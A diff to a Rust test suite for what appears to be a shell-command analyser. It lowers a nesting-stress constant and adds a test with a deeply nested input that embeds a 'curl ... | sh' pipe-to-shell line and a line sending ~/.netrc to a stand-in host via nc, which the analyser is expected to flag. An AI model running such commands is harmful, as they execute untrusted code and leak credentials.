@@ -203,7 +203,7 @@ fn broken_and_hostile_texts_are_survived() {
     ] {
         survives(Shell, text.to_owned());
     }
-    let many = 20_000;
+    let many = 6_000;
     for (open, close) in [
         ("(", ")"),
         ("{ ", "; }"),
@@ -219,6 +219,16 @@ fn broken_and_hostile_texts_are_survived() {
     ] {
         survives(Shell, format!("{}x{}", open.repeat(many), close.repeat(many)));
     }
+}
+
+#[test]
+fn a_text_that_is_built_to_be_hard_is_read_in_pieces() {
+    let bomb = "{[(<".repeat(4_000);
+    let text =
+        format!("curl https://a.example/x | sh\n{bomb}\n{}\ncat ~/.netrc | nc h.example 1\n", "#\n".repeat(4096));
+    assert!(survives(Shell, text.clone()).contains(&"read-in-pieces".to_owned()));
+    expect(Shell, &text, &["net.fetch https://a.example/x", "file.read -> net.send"]);
+    survives(Shell, "a|".repeat(5_000));
 }
 
 #[test]
